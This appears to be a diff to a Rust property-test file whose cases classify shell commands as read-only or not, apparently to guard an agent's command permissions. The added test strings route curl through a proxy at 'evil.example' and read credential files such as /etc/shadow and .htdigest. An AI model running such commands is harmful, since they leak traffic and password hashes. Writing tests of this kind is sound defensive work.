@@ -5502,6 +5502,11 @@ proptest! {
         not_read_only(steer)?;
         destructive("borg compact /srv/b")?;
         read_only("cut -d: -f1,3 /etc/shadow")?;
+        not_read_only("https_proxy+=@evil.example:3128; curl https://10.0.0.5/")?;
+        not_read_only("read https_proxy < /tmp/p; curl https://10.0.0.5/")?;
+        not_read_only("read PGHOST < /tmp/h; psql -c 'select 1'")?;
+        not_read_only("cat /srv/www/.htdigest")?;
+        read_only("cut -d: -f1,2 /srv/www/.htdigest")?;
     }
 
     /// Review 84: a glob reaches a game's settings whatever its letters
